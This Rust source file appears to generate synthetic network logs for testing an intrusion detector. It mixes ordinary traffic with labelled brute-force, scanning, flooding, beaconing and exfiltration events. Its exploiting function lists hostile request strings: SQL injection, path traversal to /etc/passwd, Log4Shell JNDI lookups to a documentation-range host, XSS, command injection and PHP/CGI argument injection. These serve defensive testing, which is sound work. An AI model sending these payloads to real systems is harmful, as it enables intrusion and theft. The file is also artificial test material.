//! A day of a small network, made from a seed: what people and programs usually do, and attacks
//! among it whose truth is written down.

use std::collections::BTreeSet;
use std::net::Ipv4Addr;

use fazai_watch::Category;
use jiff::Timestamp;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde_json::{Value, json};

/// The stream, and who did what.
pub(crate) struct Stream {
    pub(crate) lines: Vec<String>,
    pub(crate) attacks: BTreeSet<(Category, String)>,
}

/// 2025-06-01, midnight.
const BEGIN_S: f64 = 1_748_736_000.0;
const DAY_S: f64 = 86_400.0;
const SERVER: &str = "192.0.2.80";

struct Maker {
    rng: StdRng,
    lines: Vec<(f64, String)>,
    attacks: BTreeSet<(Category, String)>,
    next: u16,
}

pub(crate) fn make(seed: u64) -> Stream {
    let mut maker = Maker {
        rng: StdRng::seed_from_u64(seed),
        lines: Vec::new(),
        attacks: BTreeSet::new(),
        next: 0,
    };
    maker.usual();
    maker.guessing();
    maker.scanning();
    maker.exploiting();
    maker.flooding();
    maker.inside();
    maker.lines.sort_by(|a, b| a.0.total_cmp(&b.0));
    Stream {
        lines: maker.lines.into_iter().map(|(_, line)| line).collect(),
        attacks: maker.attacks,
    }
}

fn at(time: f64) -> Timestamp {
    #[expect(
        clippy::cast_possible_truncation,
        reason = "microseconds of this century"
    )]
    Timestamp::from_microsecond(((BEGIN_S + time) * 1e6) as i64).unwrap()
}

fn sshd(time: f64, text: &str) -> String {
    format!("{:.6} web1 sshd[812]: {text}", at(time))
}

fn access(time: f64, ip: Ipv4Addr, request: &str, status: u16, agent: &str) -> String {
    let when = at(time).strftime("%d/%b/%Y:%H:%M:%S +0000");
    format!("{ip} - - [{when}] \"{request}\" {status} 512 \"-\" \"{agent}\"")
}

fn eve(time: f64, kind: &str, from: &str, to: &str, port: u16, more: Value) -> String {
    let when = at(time).strftime("%Y-%m-%dT%H:%M:%S%.6f+0000").to_string();
    let mut line = json!({
        "timestamp": when, "event_type": kind, "src_ip": from, "src_port": 40_000, "dest_ip": to,
        "dest_port": port, "proto": "TCP",
    });
    let (Value::Object(line_keys), Value::Object(more)) = (&mut line, more) else {
        unreachable!("both are objects");
    };
    line_keys.extend(more);
    line.to_string()
}

fn flow(answers: u32, sent: u64, received: u64) -> Value {
    json!({ "flow": {
        "pkts_toserver": 1 + sent / 1_400, "pkts_toclient": answers, "bytes_toserver": sent, "bytes_toclient": received,
        "state": if answers == 0 { "new" } else { "closed" },
    } })
}

fn alert(signature: &str, category: &str, severity: u8) -> Value {
    json!({
        "alert": { "action": "allowed", "gid": 1, "signature_id": 2_000_000, "signature": signature, "category": category, "severity": severity },
        "flow": { "pkts_toserver": 4, "pkts_toclient": 4 },
    })
}

impl Maker {
    fn say(&mut self, time: f64, line: String) {
        self.lines.push((time, line));
    }

    fn some_time(&mut self) -> f64 {
        self.rng.random_range(0.0..DAY_S - 4_000.0)
    }

    /// A stranger, never the same twice.
    fn stranger(&mut self) -> Ipv4Addr {
        self.next += 1;
        let [high, low] = self.next.to_be_bytes();
        Ipv4Addr::new(203, 0, 113 + high, low)
    }

    /// A machine of our own, or somebody who may be here.
    fn friend(&mut self) -> Ipv4Addr {
        Ipv4Addr::new(
            10,
            0,
            self.rng.random_range(0..3),
            self.rng.random_range(2..250),
        )
    }

    fn attacker(&mut self, category: Category) -> Ipv4Addr {
        let ip = self.stranger();
        self.attacks.insert((category, ip.to_string()));
        ip
    }

    fn usual(&mut self) {
        for _ in 0..20_000 {
            let (time, ip) = (self.some_time(), self.friend().to_string());
            let bytes = self.rng.random_range(200..4_000_000);
            let outside = format!("198.51.100.{}", self.rng.random_range(1..200));
            self.say(
                time,
                eve(
                    time,
                    "flow",
                    &ip,
                    &outside,
                    443,
                    flow(20, bytes / 20, bytes),
                ),
            );
        }
        for n in 0..10_000u32 {
            let (time, ip) = (self.some_time(), self.friend());
            let pages = [
                "/",
                "/cart",
                "/search?q=select+a+union+suit",
                "/people/O%27Reilly",
                "/docs/script/alert.html",
            ];
            let page = pages[n as usize % pages.len()];
            let status = if n % 40 == 0 { 404 } else { 200 };
            let line = access(
                time,
                ip,
                &format!("GET {page}?n={n} HTTP/1.1"),
                status,
                "Mozilla/5.0 Firefox/128.0",
            );
            self.say(time, line);
        }
        // People who mistype, and then do not.
        for _ in 0..300 {
            let (mut time, ip) = (self.some_time(), self.friend());
            for _ in 0..self.rng.random_range(0..3) {
                self.say(
                    time,
                    sshd(
                        time,
                        &format!("Failed password for anna from {ip} port 4022 ssh2"),
                    ),
                );
                time += self.rng.random_range(3.0..15.0);
            }
            self.say(
                time,
                sshd(
                    time,
                    &format!("Accepted password for anna from {ip} port 4022 ssh2"),
                ),
            );
        }
        // A monitor that asks every minute, with the clock's unsteadiness.
        let mut time = 5.0;
        while time < DAY_S {
            let line = access(
                time,
                Ipv4Addr::new(10, 0, 0, 250),
                "GET /health HTTP/1.1",
                200,
                "check/1.0",
            );
            self.say(time, line);
            time += 60.0 + self.rng.random_range(-0.5..0.5);
        }
        // A crawler that finds old links, slowly.
        let crawler = self.stranger();
        for n in 0..400 {
            let time = f64::from(n) * 200.0;
            let line = access(
                time,
                crawler,
                &format!("GET /old/{n} HTTP/1.1"),
                404,
                "examplebot/2.1 (+https://bot.example)",
            );
            self.say(time, line);
        }
        // Backups inside, at night.
        for n in 0..20 {
            let time = 7_200.0 + f64::from(n) * 60.0;
            let from = format!("10.0.1.{}", 10 + n);
            self.say(
                time,
                eve(
                    time,
                    "flow",
                    &from,
                    "10.0.0.9",
                    873,
                    flow(900, 60_000_000, 900),
                ),
            );
        }
        for n in 0..3_000 {
            let time = self.some_time();
            let line = [
                "systemd[1]: Started session-4.scope - Session 4 of User anna.",
                "CRON[2211]: (root) CMD (run-parts /etc/cron.hourly)",
                "kernel: usb 1-1: new high-speed USB device number 5 using xhci_hcd",
            ];
            let line = format!("{:.6} web1 {}", at(time), line[n % line.len()]);
            self.say(time, line);
        }
    }

    /// Guesses at passwords: fast, and so slow that a few of them are missed.
    fn guessing(&mut self) {
        for pause in [
            0.2, 0.5, 1.0, 2.0, 4.0, 8.0, 12.0, 16.0, 20.0, 26.0, 45.0, 90.0,
        ] {
            for users in [1, 30] {
                let ip = self.attacker(Category::Bruteforce);
                let mut time = self.some_time();
                for n in 0..40 {
                    let user = if users == 1 {
                        "root".to_owned()
                    } else {
                        format!("invalid user u{n}")
                    };
                    self.say(
                        time,
                        sshd(
                            time,
                            &format!("Failed password for {user} from {ip} port 4022 ssh2"),
                        ),
                    );
                    time += pause * self.rng.random_range(0.7..1.3);
                }
            }
        }
    }

    /// Ports of a host, hosts of a network, pages of a site.
    fn scanning(&mut self) {
        for pause in [0.01, 0.1, 0.5, 1.0, 2.0, 2.8, 5.0] {
            let ip = self.attacker(Category::Recon).to_string();
            let mut time = self.some_time();
            for n in 0..200 {
                self.say(
                    time,
                    eve(time, "flow", &ip, SERVER, 1 + n * 7, flow(0, 60, 0)),
                );
                time += pause * self.rng.random_range(0.7..1.3);
            }
            let ip = self.attacker(Category::Recon).to_string();
            let mut time = self.some_time();
            for n in 1..200 {
                self.say(
                    time,
                    eve(
                        time,
                        "flow",
                        &ip,
                        &format!("192.0.2.{n}"),
                        445,
                        flow(0, 60, 0),
                    ),
                );
                time += pause * self.rng.random_range(0.7..1.3);
            }
            let ip = self.attacker(Category::Recon);
            let mut time = self.some_time();
            for n in 0..200 {
                let line = access(
                    time,
                    ip,
                    &format!("GET /admin{n}.php HTTP/1.1"),
                    404,
                    "Mozilla/5.0",
                );
                self.say(time, line);
                time += pause * self.rng.random_range(0.7..1.3);
            }
        }
    }

    /// One request each.
    fn exploiting(&mut self) {
        let requests = [
            "GET /item?id=1%27%20UNION%20SELECT%20user,pass%20FROM%20users--%20- HTTP/1.1",
            "GET /item?id=1/**/union/**/all/**/select/**/1,2,3 HTTP/1.1",
            "GET /item?id=1;DROP%20TABLE%20users-- HTTP/1.1",
            "GET /item?id=sleep(5)%23 HTTP/1.1",
            "GET /../../../../etc/passwd HTTP/1.1",
            "GET /x?file=..%252f..%252f..%252fetc%252fpasswd HTTP/1.1",
            "GET /x?f=....//....//etc/passwd HTTP/1.1",
            "GET /?x=${jndi:ldap://203.0.113.66/a} HTTP/1.1",
            "GET /?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F203.0.113.66%2Fa%7D HTTP/1.1",
            "GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1",
            "GET /search?q=%3Cimg%20src=x%20onerror=alert(1)%3E HTTP/1.1",
            "GET /ping?host=127.0.0.1;cat%20/etc/passwd HTTP/1.1",
            "GET /ping?host=%60id%60 HTTP/1.1",
            "GET /?page=php://filter/convert.base64-encode/resource=index HTTP/1.1",
            "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
            "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh HTTP/1.1",
            "GET /index.php?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input HTTP/1.1",
            "GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x HTTP/1.1",
        ];
        for request in requests {
            let ip = self.attacker(Category::Exploit);
            let time = self.some_time();
            let line = access(time, ip, request, 200, "Mozilla/5.0");
            self.say(time, line);
        }
        for _ in 0..10 {
            let (ip, time) = (
                self.attacker(Category::Exploit).to_string(),
                self.some_time(),
            );
            let about = alert(
                "ET EXPLOIT Apache RCE",
                "Attempted Administrator Privilege Gain",
                1,
            );
            self.say(time, eve(time, "alert", &ip, SERVER, 80, about));
        }
    }

    fn flooding(&mut self) {
        for per_second in [60.0, 150.0, 300.0, 1_000.0] {
            let (ip, begin) = (self.attacker(Category::Dos), self.some_time());
            for n in 0..6_000 {
                let time = begin + f64::from(n) / per_second;
                let line = access(
                    time,
                    ip,
                    &format!("GET /search?q={n} HTTP/1.1"),
                    200,
                    "Mozilla/5.0",
                );
                self.say(time, line);
            }
            let (ip, begin) = (self.attacker(Category::Dos).to_string(), self.some_time());
            for n in 0..12_000 {
                let time = begin + f64::from(n) / per_second / 2.0;
                self.say(time, eve(time, "flow", &ip, SERVER, 80, flow(1, 60, 60)));
            }
        }
    }

    /// Machines of our own that are not our own any more.
    fn inside(&mut self) {
        let own = |n: usize| format!("10.0.9.{n}");
        for (n, jitter) in [0.0, 0.02, 0.05, 0.1, 0.3].into_iter().enumerate() {
            let ip = own(10 + n);
            self.attacks.insert((Category::Malware, ip.clone()));
            let mut time = self.some_time().min(DAY_S - 40_000.0);
            for _ in 0..60 {
                let more =
                    json!({ "tls": { "sni": format!("c{n}.example.net"), "version": "TLS 1.2" } });
                self.say(time, eve(time, "tls", &ip, "203.0.113.250", 443, more));
                time += 60.0 * (1.0 + jitter * self.rng.random_range(-1.0..1.0));
            }
        }
        for n in 0..6 {
            let (ip, time) = (own(20 + n), self.some_time());
            self.attacks.insert((Category::Malware, ip.clone()));
            let about = alert(
                "ET MALWARE Beacon",
                "Malware Command and Control Activity Detected",
                1,
            );
            self.say(time, eve(time, "alert", &ip, "203.0.113.251", 443, about));
        }
        for (n, bytes) in [120_000_000, 400_000_000, 2_000_000_000, 9_000_000_000]
            .into_iter()
            .enumerate()
        {
            let (ip, time) = (own(30 + n), self.some_time());
            self.attacks.insert((Category::Exfiltration, ip.clone()));
            self.say(
                time,
                eve(
                    time,
                    "flow",
                    &ip,
                    "203.0.113.252",
                    443,
                    flow(90_000, bytes, 900_000),
                ),
            );
        }
    }
}
